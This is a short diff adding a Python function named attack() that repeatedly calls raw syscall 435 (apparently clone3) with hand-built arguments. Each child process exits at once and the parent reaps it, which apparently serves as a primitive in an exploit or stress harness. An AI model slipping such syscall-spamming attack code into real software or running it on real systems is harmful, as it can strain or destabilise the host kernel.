@@ -1,0 +1,14 @@
+import ctypes
+import os
+
+import aim
+from raw import syscall
+
+
+def attack():
+    for _ in range(aim.MANY):
+        pid = syscall(435, (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17), 88)
+        if pid == 0:
+            os._exit(0)
+        os.waitpid(pid, 0)
+    return True
